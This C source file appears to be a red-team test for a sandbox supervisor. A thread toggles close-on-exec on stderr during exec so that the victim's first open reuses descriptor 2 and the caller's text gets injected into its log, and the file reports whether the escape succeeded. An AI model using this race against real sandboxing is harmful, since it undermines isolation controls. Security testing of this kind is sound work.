/* stdfd_race.c: red team 34's exec into a table with stderr close-on-exec, raced (review 19).
 *
 * Supervisor._entering_table refuses an exec into another table while descriptor 0, 1 or 2
 * would be closed in the new program -- read from fdinfo at the exec's stop.  A second
 * thread of the exec'ing process toggles FD_CLOEXEC on descriptor 2 meanwhile: when the check
 * read it open and the kernel's exec then found it close-on-exec, the program's first open
 * takes descriptor 2 and what it writes to "stderr" (the caller's text) lands in its file.
 *
 *   stdfd_race VICTIM LOG ROUNDS   each round: fork; the child starts the toggling thread and
 *                                  execs VICTIM (this program, copied where a table names it)
 *                                  with a payload; ESCAPED when LOG then holds the payload
 *   stdfd_race victim LOG TEXT     appends a line to LOG, then says TEXT on stderr
 */
#include "attack.h"

#include <sys/wait.h>

static void *toggle(void *arg) {
    (void)arg;
    for (;;) {
        fcntl(2, F_SETFD, FD_CLOEXEC);
        fcntl(2, F_SETFD, 0);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc == 4 && strcmp(argv[1], "victim") == 0) {
        int fd = open(argv[2], O_WRONLY | O_APPEND | O_CREAT, 0600);
        if (fd < 0) return 1;
        dprintf(fd, "stamp\n");
        fprintf(stderr, "stamp: ignoring %s\n", argv[3]);
        return 0;
    }
    if (argc != 4) blocked("usage: stdfd_race VICTIM LOG ROUNDS");
    const char *prog = argv[1], *log = argv[2];
    int rounds = atoi(argv[3]), eperm = 0, other = 0;
    for (int i = 0; i < rounds; i++) {
        pid_t pid = fork();
        if (pid < 0) blocked("fork: %s", ename(errno));
        if (pid == 0) {
            pthread_t t;
            if (pthread_create(&t, NULL, toggle, NULL) != 0) _exit(125);
            usleep(200);
            execl(prog, prog, "victim", log, "\n" PAYLOAD_MAGIC "\n", (char *)NULL);
            _exit(errno == EPERM ? 126 : 127);
        }
        int status;
        waitpid(pid, &status, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 126) eperm++;
        else other++;
        char buf[1 << 16] = {0};
        int fd = open(log, O_RDONLY);
        ssize_t n = fd < 0 ? 0 : read(fd, buf, sizeof buf - 1);
        if (fd >= 0) close(fd);
        if (n > 0 && strstr(buf, PAYLOAD_MAGIC))
            escaped("round %d: the program's table wrote the caller's text into %s", i, log);
    }
    blocked("no payload after %d rounds (exec EPERM %d, other %d)", rounds, eperm, other);
}
